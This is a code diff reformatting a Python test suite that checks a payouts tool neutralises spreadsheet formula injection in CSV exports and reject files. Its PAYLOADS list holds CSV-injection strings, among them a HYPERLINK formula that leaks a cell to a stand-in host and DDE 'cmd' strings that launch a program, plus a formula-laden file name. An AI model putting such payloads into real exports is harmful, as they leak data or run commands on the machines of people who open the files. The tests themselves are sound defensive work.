@@ -12,17 +12,21 @@ from typer.testing import CliRunner
 from sorae_payouts.cli.batch_cmd import EXPORT_NUMERIC_COLUMNS
 from sorae_payouts.cli.main import app
 from sorae_payouts.core.csv_safe import safe_cell, safe_frame
-from sorae_payouts.month_end.finalize import finalize_period
 from sorae_payouts.ingest import ImportKind, import_file
 from sorae_payouts.month_end.manifest import PayoutPolicy
-from sorae_payouts.month_end.manifest_build import build_manifest
 from sorae_payouts_tests.csv_cells import evaluable_cells
-from sorae_payouts_tests.factory import NOW, OCT, add_affiliate, add_commission
+from sorae_payouts_tests.factory import NOW, OCT, add_affiliate, add_commission, build_manifest, finalize_period
 from sorae_payouts_tests.ingest.helpers import AFFILIATE_HEADER, COMMISSION_HEADER, write_csv
 
 # The payloads of issue 9, and the other starts OWASP lists.
-PAYLOADS = ['=HYPERLINK("http://x/?leak="&A1,"y")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'![/x]",
-            "\t=1+1", "\r=1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://x/?leak="&A1,"y")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3+cmd|' /C calc'![/x]",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -35,8 +39,9 @@ def test_plain_text_and_program_numbers_are_left_alone():
     assert [safe_cell(v) for v in ("alice", "12.34", "a=b", None)] == ["alice", "12.34", "a=b", None]
     assert [safe_cell(v, numeric=True) for v in (-1500, "-15.00", 0)] == [-1500, "-15.00", 0]
     assert safe_cell("-15.00") == "'-15.00"  # text columns: a sign is a formula start whatever follows
-    frame = safe_frame(pd.DataFrame({"row": [1, 2], "value": ["@SUM(1+1)", "ok"], "n": ["-3", "=1"]}),
-                       numeric=("row", "n"))
+    frame = safe_frame(
+        pd.DataFrame({"row": [1, 2], "value": ["@SUM(1+1)", "ok"], "n": ["-3", "=1"]}), numeric=("row", "n")
+    )
     assert frame.to_dict("list") == {"row": [1, 2], "value": ["'@SUM(1+1)", "ok"], "n": ["-3", "'=1"]}
 
 
@@ -61,17 +66,25 @@ def test_batch_export_holds_no_formula(engine, ledger_url, tmp_path, monkeypatch
 
 
 def test_rejects_files_hold_no_formula(engine, tmp_path):
-    affiliates = write_csv(tmp_path / "a.csv", AFFILIATE_HEADER, [
-        [PAYLOADS[0], PAYLOADS[1], "not-an-email", "", "usd"],
-        ["A2", PAYLOADS[2], "a2@example.com", "", "=usd"],
-        ["A3", "Ann", "a3@example.com", "", "usd"],
-    ])
+    affiliates = write_csv(
+        tmp_path / "a.csv",
+        AFFILIATE_HEADER,
+        [
+            [PAYLOADS[0], PAYLOADS[1], "not-an-email", "", "usd"],
+            ["A2", PAYLOADS[2], "a2@example.com", "", "=usd"],
+            ["A3", "Ann", "a3@example.com", "", "usd"],
+        ],
+    )
     report = import_file(engine, ImportKind.AFFILIATES, affiliates)
     assert report.rejected_rows == 2
-    commissions = write_csv(tmp_path / "=c,@x.csv", COMMISSION_HEADER, [
-        ["K1", PAYLOADS[3], "O1", "1.00", "usd", "2026-10-05T12:00:00Z"],
-        ["K2", "A3", "O2", "-1.00", "usd", "2026-10-05T12:00:00Z"],
-    ])
+    commissions = write_csv(
+        tmp_path / "=c,@x.csv",
+        COMMISSION_HEADER,
+        [
+            ["K1", PAYLOADS[3], "O1", "1.00", "usd", "2026-10-05T12:00:00Z"],
+            ["K2", "A3", "O2", "-1.00", "usd", "2026-10-05T12:00:00Z"],
+        ],
+    )
     report = import_file(engine, ImportKind.COMMISSIONS, commissions)
     assert report.rejected_rows == 2
     for path in (tmp_path / "a.rejects.csv", tmp_path / "=c,@x.rejects.csv"):
